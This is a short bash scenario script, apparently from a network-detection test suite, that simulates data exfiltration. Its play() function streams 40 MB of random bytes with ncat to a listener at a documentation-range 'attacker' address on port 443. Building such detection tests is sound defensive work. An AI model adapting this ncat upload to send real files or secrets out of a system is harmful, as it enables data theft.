# shellcheck shell=bash
# about: 40 MB to a host outside, from one that never sent much (ncat)
# type: attack
# kind: large_upload exfiltration
# target: attacker 203.0.113.66
# source: attacker
# tools: ncat
# within_ms: 10000
# packets: 10000
play() {
	in_space world ncat -l 203.0.113.66 443 --recv-only >/dev/null &
	started
	sleep 0.5
	head -c 40000000 /dev/urandom | on attacker timeout 20 ncat --send-only 203.0.113.66 443
}
